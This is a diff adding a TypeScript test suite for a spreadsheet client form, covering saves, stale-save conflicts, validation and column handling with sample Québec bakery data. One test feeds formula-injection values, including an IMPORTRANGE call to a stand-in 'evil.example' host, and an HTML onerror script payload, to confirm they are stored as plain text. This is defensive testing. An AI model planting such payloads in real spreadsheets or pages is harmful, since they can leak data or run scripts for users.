@@ -1,0 +1,350 @@
+import type {
+  ClientRecord,
+  FormLoadResult,
+  FormOpenResult,
+  SaveResult,
+} from '../../src/shared/formApi';
+import { emptyClientRecord } from '../../src/shared/schemas';
+import { workbook, type TestWorkbook } from './harness';
+
+function fullRecord(code: string): ClientRecord {
+  const r = emptyClientRecord(code);
+  r.general = {
+    code,
+    name: 'Boulangerie Alida',
+    kind: 'company',
+    contact: 'Alida Roy',
+    email: 'alida@example.com',
+    phone: '514-555-0101',
+    address: '1200 rue Sainte-Catherine',
+    city: 'Montréal',
+    province: 'QC',
+    postalCode: 'H3B 1K9',
+    country: 'Canada',
+    language: 'fr',
+  };
+  r.terms = {
+    creditCode: 'NET30',
+    creditLimit: 5000,
+    termDays: 45,
+    discountPct: 2,
+    discountDays: 10,
+    revenueAccount: '',
+    taxCode: '',
+    lastInvoiceDate: '2026-09-30',
+    lastUnpaidInvoiceDate: null,
+    watchReason: '',
+    emailInvoices: true,
+    poRequired: true,
+    taxExempt: false,
+    cashOnDelivery: false,
+    invoiceRemarks: 'Livrer par la porte arrière',
+  };
+  r.salespeople = [
+    { salesperson: 'Marc Gagnon', commissionType: 'sales', ratePct: 5, productType: '' },
+    {
+      salesperson: 'Sophie Tremblay',
+      commissionType: 'margin',
+      ratePct: 10,
+      productType: 'Services',
+    },
+  ];
+  r.crm = {
+    accountManager: 'Julie Côté',
+    referredBy: 'Site web',
+    newsletter: true,
+    tags: ['Bon client', 'Volume 3'],
+    needs: 'Livraison avant 7 h',
+    followUp: 'Rappeler en janvier',
+    habits: 'Pains spéciaux pour les fêtes',
+    discussions: [
+      {
+        date: '2026-10-02',
+        people: 'Livraison, Ventes',
+        cc: 'Direction',
+        subject: 'Retard',
+        details: 'Camion en panne',
+      },
+    ],
+    emails: [
+      {
+        date: '2026-10-03',
+        from: 'julie@example.com',
+        to: 'alida@example.com',
+        subject: 'Excuses pour le retard',
+      },
+    ],
+  };
+  return r;
+}
+
+/** What the form edits, without the version and the computed fields. */
+function editable(r: ClientRecord) {
+  const { version: _v, computed: _c, ...rest } = r;
+  return rest;
+}
+
+function save(wb: TestWorkbook, record: ClientRecord, isNew: boolean, user?: string): SaveResult {
+  return user
+    ? wb.runAs<SaveResult>(user, 'formSave', { record, isNew })
+    : wb.run<SaveResult>('formSave', { record, isNew });
+}
+
+function ok(result: SaveResult): Extract<SaveResult, { ok: true }> {
+  if (!result.ok) throw new Error(`save failed: ${JSON.stringify(result)}`);
+  return result;
+}
+
+describe('client form: open and save through the bundle', () => {
+  it('opens an empty workbook on a new client with the lists and the next code', () => {
+    const wb = workbook({ locale: 'fr_CA' });
+    const open = wb.run<FormOpenResult>('formOpen', {});
+    expect(open.lang).toBe('fr');
+    expect(open.record).toBeNull();
+    expect(open.nextCode).toBe('C0001');
+    expect(open.lists.tags).toEqual(['Bon client', 'Nouveau client', 'Volume 3']);
+    expect(open.defaults.termDays).toBe(30);
+  });
+
+  it('creates a client with all four tabs, then reloads the same record', () => {
+    const wb = workbook({ locale: 'fr_CA' });
+    const saved = ok(save(wb, fullRecord('C0001'), true));
+    expect(saved.message).toMatch(/C0001/);
+    expect(saved.record.version).not.toBe('');
+    const [client] = wb.rows('Clients');
+    expect(client).toMatchObject({
+      'Code client': 'C0001',
+      Nom: 'Boulangerie Alida',
+      Type: 'Entreprise',
+      Infolettre: true,
+    });
+    expect(client!['Étiquettes']).toBe('Bon client, Volume 3');
+    expect(client!['Modifié par']).toBe('owner@example.com');
+    expect(wb.rows('Termes')[0]).toMatchObject({
+      'Code client': 'C0001',
+      'Limite de crédit': 5000,
+      'Terme (jours)': 45,
+    });
+    expect(
+      wb.rows('Commissions').map((r) => [r['Vendeur'], r['Type de commission'], r['Taux (%)']]),
+    ).toEqual([
+      ['Marc Gagnon', 'Ventes', 5],
+      ['Sophie Tremblay', 'Marge', 10],
+    ]);
+    expect(wb.rows('Journal CRM').map((r) => r['Nature'])).toEqual(['Discussion', 'Courriel']);
+
+    const loaded = wb.run<FormLoadResult>('formLoad', 'c0001 ');
+    if (!('record' in loaded)) throw new Error(loaded.error);
+    expect(editable(loaded.record)).toEqual(editable(fullRecord('C0001')));
+    expect(loaded.record.version).toBe(saved.record.version);
+  });
+
+  it('saves a client with a code and a name only', () => {
+    const wb = workbook({ locale: 'en_US' });
+    const r = emptyClientRecord('A-1');
+    r.general.name = 'Minimal Inc.';
+    ok(save(wb, r, true));
+    expect(wb.rows('Clients')).toHaveLength(1);
+    expect(wb.rows('Terms')).toHaveLength(0); // nothing to keep: no empty Terms row
+  });
+
+  it('edits only the client’s changed cells: other clients, the team’s columns and formulas stay', () => {
+    const wb = workbook({ locale: 'fr_CA' });
+    ok(save(wb, fullRecord('C0001'), true));
+    ok(
+      save(
+        wb,
+        {
+          ...fullRecord('C0002'),
+          general: { ...fullRecord('C0002').general, name: 'Garage Tremblay' },
+        },
+        true,
+      ),
+    );
+    // The team added a column with a formula, and typed a note in C0002's Terms row.
+    const clients = wb.sheet('Clients');
+    clients.getRange(1, 24).setValue('Notre note');
+    clients.getRange(2, 24).setFormula('=LEN(B2)');
+    clients.getRange(3, 24).setValue('VIP');
+    const before2 = wb.rows('Clients')[1];
+    const record = (wb.run<FormLoadResult>('formLoad', 'C0001') as { record: ClientRecord }).record;
+    record.general.city = 'Laval';
+    record.salespeople = [record.salespeople[1]!];
+    record.crm.discussions.push({
+      date: '2026-11-01',
+      people: 'Comptabilité',
+      cc: '',
+      subject: 'Solde',
+      details: 'OK',
+    });
+    const result = ok(save(wb, record, false));
+    expect(result.record.general.city).toBe('Laval');
+    const rows = wb.rows('Clients');
+    expect(rows[0]!['Ville']).toBe('Laval');
+    expect(wb.emu.spreadsheet.cell('Clients', 'X2').formula).toBe('=LEN(B2)');
+    expect(rows[1]).toEqual(before2);
+    expect(wb.rows('Commissions').map((r) => [r['Code client'], r['Vendeur']])).toEqual([
+      ['C0001', 'Sophie Tremblay'],
+      ['C0002', 'Marc Gagnon'],
+      ['C0002', 'Sophie Tremblay'],
+    ]);
+    expect(wb.rows('Journal CRM').filter((r) => r['Code client'] === 'C0001')).toHaveLength(3);
+  });
+
+  it('refuses a stale save, naming who saved and when; nothing is overwritten', () => {
+    const wb = workbook({ locale: 'fr_CA' });
+    ok(save(wb, fullRecord('C0001'), true));
+    const mine = (wb.run<FormLoadResult>('formLoad', 'C0001') as { record: ClientRecord }).record;
+    const theirs = structuredClone(mine);
+    wb.emu.clock.advance(60_000);
+    theirs.general.phone = '438-555-9999';
+    ok(save(wb, theirs, false, 'sophie@example.com'));
+    mine.general.phone = '450-555-0000';
+    const result = save(wb, mine, false);
+    expect(result).toMatchObject({ ok: false, kind: 'conflict', by: 'sophie@example.com' });
+    if (result.ok || result.kind !== 'conflict') throw new Error('expected a conflict');
+    expect(result.message).toMatch(/sophie@example\.com/);
+    expect(wb.rows('Clients')[0]!['Téléphone']).toBe('438-555-9999');
+  });
+
+  it('refuses a duplicate code, whatever its case or spaces', () => {
+    const wb = workbook({ locale: 'en_US' });
+    ok(save(wb, fullRecord('C0001'), true));
+    const result = save(wb, fullRecord(' c0001'), true);
+    expect(result).toMatchObject({ ok: false, kind: 'invalid' });
+    if (result.ok || result.kind !== 'invalid') throw new Error('expected invalid');
+    expect(result.errors[0]).toEqual({
+      path: 'general.code',
+      message: 'The code "c0001" is already used by another client.',
+    });
+    expect(wb.rows('Clients')).toHaveLength(1);
+  });
+
+  it('refuses bad payloads with field errors in the workbook language and writes nothing', () => {
+    const wb = workbook({ locale: 'fr_CA' });
+    const before = JSON.stringify(wb.emu.spreadsheet.toJSON());
+    for (const payload of [
+      null,
+      42,
+      'x',
+      {},
+      { record: 42, isNew: true },
+      { record: { general: {} }, isNew: true },
+    ]) {
+      const result = wb.run<SaveResult>('formSave', payload);
+      expect(result).toMatchObject({ ok: false, kind: 'invalid' });
+    }
+    const bad = fullRecord('C0009');
+    bad.terms.discountPct = 150;
+    bad.salespeople[0]!.ratePct = -1;
+    bad.general.name = '';
+    bad.crm.discussions[0]!.date = '2026-02-30';
+    const result = save(wb, bad, true);
+    if (result.ok || result.kind !== 'invalid') throw new Error('expected invalid');
+    const byPath = Object.fromEntries(result.errors.map((e) => [e.path, e.message]));
+    expect(byPath['general.name']).toBe('Ce champ est requis.');
+    expect(byPath['terms.discountPct']).toBe('Doit être au plus 100.');
+    expect(byPath['salespeople.0.ratePct']).toBe('Doit être au moins 0.');
+    expect(byPath['crm.discussions.0.date']).toMatch(/Date invalide/);
+    expect(JSON.stringify(wb.emu.spreadsheet.toJSON())).toBe(before);
+  });
+
+  it('keeps user text as text: formulas are never created, HTML is stored as typed', () => {
+    const wb = workbook({ locale: 'en_US' });
+    const r = fullRecord('C0001');
+    r.general.name = '=IMPORTRANGE("https://evil.example","A1")';
+    r.general.contact = '+1 (514) 555-0101';
+    r.crm.needs = '-SUM(A1)';
+    r.crm.followUp = '<img src=x onerror="alert(1)">';
+    r.general.phone = '=HYPERLINK("x")';
+    ok(save(wb, r, true));
+    const ss = wb.emu.spreadsheet;
+    for (const a1 of ['B2', 'D2', 'F2', 'Q2', 'R2'])
+      expect(ss.cell('Clients', a1).formula).toBe('');
+    const loaded = (wb.run<FormLoadResult>('formLoad', 'C0001') as { record: ClientRecord }).record;
+    expect(loaded.general.name).toBe(r.general.name);
+    expect(loaded.general.contact).toBe(r.general.contact);
+    expect(loaded.general.phone).toBe(r.general.phone);
+    expect(loaded.crm.needs).toBe(r.crm.needs);
+    expect(loaded.crm.followUp).toBe(r.crm.followUp);
+  });
+
+  it('works with reordered columns and the team’s own columns', () => {
+    const wb = workbook({ locale: 'fr_CA', setup: false });
+    const sheet = wb.spreadsheet.getSheets()[0]!;
+    sheet.setName('Clients');
+    sheet.getRange(1, 1, 1, 4).setValues([['Notes internes', 'Nom', 'Ville', 'Code client']]);
+    sheet.getRange(2, 1, 1, 4).setValues([['à ne pas toucher', 'Ancien client', 'Québec', 'X-9']]);
+    wb.run('setupWorkbook');
+    ok(save(wb, fullRecord('C0001'), true));
+    const rows = wb.rows('Clients');
+    expect(rows[0]).toMatchObject({
+      'Notes internes': 'à ne pas toucher',
+      Nom: 'Ancien client',
+      'Code client': 'X-9',
+    });
+    expect(rows[1]).toMatchObject({
+      'Notes internes': '',
+      Nom: 'Boulangerie Alida',
+      Ville: 'Montréal',
+      'Code client': 'C0001',
+    });
+    const open = wb.run<FormOpenResult>('formOpen', { code: 'X-9' });
+    expect(open.record?.general).toMatchObject({ name: 'Ancien client', city: 'Québec' });
+  });
+
+  it('opens on the client of the selected row, in Clients or in Invoices', () => {
+    const wb = workbook({ locale: 'fr_CA' });
+    ok(save(wb, fullRecord('C0001'), true));
+    ok(save(wb, fullRecord('C0002'), true));
+    wb.emu.spreadsheet.setActiveRange('Clients', 'C3');
+    expect(wb.run<FormOpenResult>('formOpen', {}).record?.general.code).toBe('C0002');
+    wb.append('Factures', [
+      { 'No de facture': 'F-1', Date: '2026-10-01', 'Code client': 'C0001', Montant: 100 },
+    ]);
+    wb.emu.spreadsheet.setActiveRange('Factures', 'A2');
+    expect(wb.run<FormOpenResult>('formOpen', {}).record?.general.code).toBe('C0001');
+    wb.emu.spreadsheet.setActiveRange('Clients', 'A1');
+    expect(wb.run<FormOpenResult>('formOpen', {}).record).toBeNull();
+    expect(wb.run<FormOpenResult>('formOpen', {}).nextCode).toBe('C0003');
+  });
+});
+
+describe('client form budget', () => {
+  function sized(n: number): TestWorkbook {
+    const wb = workbook({ locale: 'fr_CA' });
+    const clients = Array.from({ length: n }, (_, i) => ({
+      'Code client': `C${String(i + 1).padStart(5, '0')}`,
+      Nom: `Client ${i + 1}`,
+    }));
+    wb.append('Clients', clients);
+    wb.append(
+      'Commissions',
+      clients.map((c) => ({
+        'Code client': c['Code client'],
+        Vendeur: 'Marc',
+        'Type de commission': 'Ventes',
+        'Taux (%)': 5,
+      })),
+    );
+    return wb;
+  }
+
+  it('open and save make the same number of service calls with 10 and 2,000 clients', () => {
+    const counts = [10, 2000].map((n) => {
+      const wb = sized(n);
+      const open = wb.measure(() => wb.run<FormOpenResult>('formOpen', { code: 'C00005' }));
+      const record = open.result.record!;
+      record.general.city = 'Sherbrooke';
+      record.salespeople.push({
+        salesperson: 'Sophie',
+        commissionType: 'payments',
+        ratePct: 2,
+        productType: '',
+      });
+      const saveCalls = wb.measure(() => ok(save(wb, record, false)));
+      return { open: open.total, save: saveCalls.total };
+    });
+    expect(counts[1]).toEqual(counts[0]);
+  });
+});
